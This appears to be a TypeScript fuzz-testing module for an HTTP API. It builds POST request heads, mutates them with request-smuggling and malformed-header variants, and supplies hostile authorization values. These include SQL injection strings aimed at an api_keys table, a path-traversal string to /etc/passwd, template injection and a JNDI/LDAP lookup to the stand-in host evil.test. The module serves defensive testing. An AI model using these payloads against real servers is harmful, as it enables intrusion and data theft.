/** Heads of requests that readers of HTTP disagree about, and values that are no keys. */
import type { Chance } from '../agents/random.ts'

interface Head {
  target: string
  host: string
  key: string
  length: number
}

export function headOf({ target, host, key, length }: Head): string {
  return [
    `POST ${target} HTTP/1.1`,
    `host: ${host}`,
    `authorization: Bearer ${key}`,
    'content-type: application/json',
    `content-length: ${length}`,
    '',
    '',
  ].join('\r\n')
}

/** Changes of a head's text. The first line is the request line. */
const changes: readonly [Change, ...Change[]] = [
  add('transfer-encoding: chunked'),
  add('transfer-encoding: identity'),
  add('Transfer-Encoding : chunked'),
  add('content-length: 5'),
  add('content-length: 48'),
  add('content-length: -1'),
  add('content-length: +48'),
  add('content-length: 4e1'),
  add('host: evil.test'),
  add('host:'),
  add('expect: 100-continue'),
  add('expect: something'),
  add('upgrade: h2c\r\nconnection: upgrade'),
  add('upgrade: websocket\r\nconnection: upgrade'),
  add('connection: close'),
  add('x-fold: a\r\n b'),
  add('x-nul: a\u0000b'),
  add('x-high: \u00ff\u00fe'),
  add(`x-long: ${'y'.repeat(20_000)}`),
  add('no colon'),
  add(': no name'),
  add('x y: space'),
  add('authorization: Bearer mp_other'),
  add('content-type: text/plain'),
  add('content-encoding: gzip'),
  add('origin: https://evil.test'),
  add('x-modelport-preview: maybe'),
  add('idempotency-key: \u0001'),
  add(Array.from({ length: 300 }, (_, nth) => `x-${nth}: 1`).join('\r\n')),
  (head) => head.replace('POST ', 'post '),
  (head) => head.replace('POST ', 'TRACE '),
  (head) => head.replace('POST ', 'CONNECT '),
  (head) => head.replace('POST ', 'PUT '),
  (head) => head.replace('POST ', 'GET '),
  (head) => head.replace('POST ', 'POST  '),
  (head) => head.replace('POST /', 'POST https://evil.test/'),
  (head) => head.replace('POST /', 'POST //evil.test/'),
  (head) => head.replace('/v1', '/../v1'),
  (head) => head.replace('/v1', '/%2e%2e/v1'),
  (head) => head.replace('/v1', '/v1%00'),
  (head) => head.replace('/v1', String.raw`\v1`),
  (head) => head.replace('completions', 'completions?x=1#y'),
  (head) => head.replace('HTTP/1.1', 'HTTP/1.0'),
  (head) => head.replace('HTTP/1.1', 'HTTP/2.0'),
  (head) => head.replace('HTTP/1.1', 'HTTP/1.1 '),
  (head) => head.replace(' HTTP/1.1', ''),
  (head) => head.replaceAll('\r\n', '\n'),
  (head) => head.replace('\r\n', '\n'),
  (head) => head.replace('\r\n', '\r'),
  (head) => head.replace(/content-length: \d+\r\n/, ''),
  (head) => head.replace(/content-length: (\d+)/, 'content-length: $1, $1'),
  (head) => head.replace(/host: /, 'Host:\t'),
  (head) => head.replace('localhost', 'localhost.'),
  (head) => head.replace('localhost', 'user@localhost'),
  (head) => head.replace('localhost', 'LOCALHOST'),
  (head) => `\r\n${head}`,
  (head) => ` ${head}`,
]

type Change = (head: string) => string

function add(lines: string): Change {
  return (head) => `${head.slice(0, -2)}${lines}\r\n\r\n`
}

/** One or two known changes, or one changed character anywhere. */
export function breakHead(chance: Chance, head: string): string {
  if (chance.isTrue(0.3)) {
    const at = chance.below(head.length)
    const character = String.fromCharCode(chance.below(256))
    return head.slice(0, at) + character + head.slice(at + chance.below(2))
  }
  const once = chance.pick(changes)(head)
  return chance.isTrue(0.3) ? chance.pick(changes)(once) : once
}

const keys = [
  '',
  ' ',
  'null',
  'mp_',
  "mp_' OR '1'='1",
  "' UNION SELECT sha256 FROM api_keys --",
  '"; DROP TABLE api_keys; --',
  '1) OR (1=1',
  '%27%20OR%201=1',
  'mp_\u00ff'.repeat(12),
  'mp_0000000000000000000000000000002C8GjS',
  '../../../etc/passwd',
  '${jndi:ldap://evil.test}',
  '{{7*7}}',
  'x'.repeat(4_000),
] as const

/** A value of the key's header that is no key: known attacks, or random characters. */
export function hostileKey(chance: Chance): string {
  if (chance.isTrue(0.3)) return chance.pick(keys)
  const length = chance.below(60)
  // Printable and 8-bit characters; line ends belong to the broken heads.
  const characters = Array.from({ length }, () => String.fromCharCode(0x21 + chance.below(0xde)))
  return `${chance.pick(['', 'mp_', 'Bearer '])}${characters.join('').replaceAll('\u007f', '')}`
}
